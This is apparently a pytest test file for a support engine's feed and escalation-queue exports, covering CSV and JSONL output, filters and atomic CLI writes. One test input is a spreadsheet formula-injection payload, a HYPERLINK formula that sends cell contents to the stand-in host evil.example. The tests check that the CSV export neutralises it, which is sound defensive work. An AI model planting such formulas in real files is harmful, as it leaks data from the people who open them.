"""Exports of the feed and the queue: the rows the filters choose, every one of them,
in files a spreadsheet opens without running a customer's formula."""

from __future__ import annotations

import asyncio
import csv
import io
import json

import pytest

from agentcore import Engine, EscalationState, FeedQuery, Request, export_escalations, export_feed
from agentcore.cli import main

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
async def engine(settings):
    engine = Engine(settings)
    yield engine
    await engine.close()


async def answered(engine: Engine) -> dict[str, str]:
    texts = {"hours": "what are your opening hours?",
             "human": "I want to talk to a human please",
             "hostile": HOSTILE,
             "order": "where is my order?"}
    ids = {}
    for key, text in texts.items():
        outcome = await engine.submit(Request(text, customer_id=7 if key != "hours" else None))
        ids[key] = outcome.request.id
    engine.store.flush()
    return ids


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


async def test_the_feed_exports_what_its_filters_choose_newest_first(engine):
    ids = await answered(engine)
    out = io.StringIO()
    assert export_feed(engine.store, FeedQuery(), out, "csv") == 4
    rows = csv_rows(out.getvalue())
    assert [r["id"] for r in rows] == [ids[k] for k in ("order", "hostile", "human", "hours")]
    assert rows[-1]["route"] and rows[-1]["answer"] and rows[-1]["received_at"].endswith(
        "+00:00")

    escalated = io.StringIO()
    assert export_feed(engine.store, FeedQuery(status="escalated"), escalated, "jsonl") >= 1
    lines = [json.loads(line) for line in escalated.getvalue().splitlines()]
    assert ids["human"] in {row["id"] for row in lines}
    assert {row["status"] for row in lines} == {"escalated"}

    found = io.StringIO()
    export_feed(engine.store, FeedQuery(search="OPENING"), found, "jsonl")
    assert [json.loads(line)["id"] for line in found.getvalue().splitlines()] == [ids["hours"]]


async def test_a_customers_formula_is_text_in_csv_and_untouched_in_jsonl(engine):
    ids = await answered(engine)
    out = io.StringIO()
    export_feed(engine.store, FeedQuery(search="hyperlink"), out, "csv")
    (row,) = csv_rows(out.getvalue())
    assert row["id"] == ids["hostile"] and row["text"] == "'" + HOSTILE

    raw = io.StringIO()
    export_feed(engine.store, FeedQuery(search="hyperlink"), raw, "jsonl")
    assert json.loads(raw.getvalue())["text"] == HOSTILE


async def test_the_queue_exports_the_listing_asked_for(engine):
    ids = await answered(engine)
    waiting = io.StringIO()
    count = export_escalations(engine.store, engine.clock.now(),
                               (EscalationState.OPEN, EscalationState.CLAIMED), waiting, "csv")
    rows = csv_rows(waiting.getvalue())
    assert count == len(rows) >= 1
    assert ids["human"] in {r["request_id"] for r in rows}
    assert {r["state"] for r in rows} == {"open"}
    resolved = io.StringIO()
    assert export_escalations(engine.store, engine.clock.now(), (EscalationState.RESOLVED,),
                              resolved, "csv") == 0


def test_the_cli_writes_the_file_whole_or_not_at_all(settings, tmp_path, capsys):
    async def record() -> dict[str, str]:
        engine = Engine(settings)
        try:
            return await answered(engine)
        finally:
            await engine.close()

    ids = asyncio.run(record())
    target = tmp_path / "feed.jsonl"
    assert main(["--data-dir", str(settings.data_dir), "export", "feed", "--status",
                 "answered", "--out", str(target)]) == 0
    rows = [json.loads(line) for line in target.read_text().splitlines()]
    assert ids["hours"] in {r["id"] for r in rows} and {r["status"] for r in rows} == {
        "answered"}
    assert "exported" in capsys.readouterr().err
    assert not list(tmp_path.glob(".*.part"))

    # A date that isn't one: said, and nothing written.
    with pytest.raises(SystemExit):
        main(["--data-dir", str(settings.data_dir), "export", "feed", "--since", "yesterday",
              "--out", str(tmp_path / "other.csv")])
    assert "not an ISO 8601 date" in capsys.readouterr().err
    assert not (tmp_path / "other.csv").exists()
    assert main(["--data-dir", str(tmp_path / "nowhere"), "export", "escalations"]) == 2
